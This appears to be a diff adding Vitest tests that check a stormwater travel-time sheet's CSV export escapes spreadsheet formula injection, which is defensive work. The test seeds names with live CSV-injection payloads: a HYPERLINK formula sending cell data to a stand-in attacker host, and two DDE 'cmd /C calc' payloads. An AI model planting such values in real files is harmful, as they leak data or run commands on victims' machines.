@@ -2,6 +2,10 @@ import ExcelJS from "exceljs";
 import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { TravelTimeSheet } from "../../shared/schemas/sheet";
+import { eq } from "drizzle-orm";
+import { projects } from "../../server/db/schema";
+import { subcatchments, surfaceClasses } from "../../server/db/schema-geodata";
+import { FORMULA_START } from "../../server/geodata/compute/export";
 import { startTestApp, type TestApp } from "../support/app";
 import { buildGeodataCase, type GeodataCase } from "../support/geodata-case";
 
@@ -99,5 +103,42 @@ describe("exports of the travel-time sheet", () => {
     const res = await c.engineer.get(`/api/subcatchments/${c.subcatchmentId}/sheet.csv`);
     const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, "")).data;
     expect(rows.find((r) => r[0] === "Up to date")?.[1]).toMatch(/changed since; compute again/);
+  });
+
+  it("CSV: names a spreadsheet would run as formulas come out as text (CSV injection)", async () => {
+    // OWASP "CSV Injection": a cell starting with = + - @ tab or CR is a formula to Excel and
+    // LibreOffice. These go in through the names a project, subcatchment and class carry.
+    const x = await buildGeodataCase(t, "export-formula");
+    const hyperlink = '=HYPERLINK("http://attacker.test/?d="&A1,"Open")';
+    const classId = x.classIdByName.lawn ?? "";
+    await t.db.update(projects).set({ name: hyperlink }).where(eq(projects.id, x.projectId));
+    await t.db
+      .update(subcatchments)
+      .set({ name: "+1+cmd|' /C calc'!A0" })
+      .where(eq(subcatchments.id, x.subcatchmentId));
+    await t.db
+      .update(surfaceClasses)
+      .set({ name: "@SUM(1+1)*cmd|' /C calc'!A0" })
+      .where(eq(surfaceClasses.id, classId));
+    const computed = await x.engineer
+      .post(`/api/subcatchments/${x.subcatchmentId}/compute`)
+      .send({});
+    expect(computed.status).toBe(200);
+    const res = await x.engineer.get(`/api/subcatchments/${x.subcatchmentId}/sheet.csv`);
+    expect(res.status).toBe(200);
+    const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, "")).data;
+    const cells = rows.flat();
+    expect(rows.find((r) => r[0] === "Project")?.[1]).toBe(`'${hyperlink}`);
+    expect(rows.find((r) => r[0] === "Subcatchment")?.[1]).toBe("'+1+cmd|' /C calc'!A0");
+    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+    // No cell a spreadsheet would evaluate; plain numbers (negatives too) are left as numbers.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
+  });
+
+  it("CSV: a formula cell is caught even when the value has a line break or starts with tab or CR", () => {
+    expect(FORMULA_START.test("=1+1\nsecond line")).toBe(true);
+    expect(FORMULA_START.test("\t=1+1")).toBe(true);
+    expect(FORMULA_START.test("\r=1+1")).toBe(true);
+    expect(FORMULA_START.test("Lawn, good condition")).toBe(false);
   });
 });
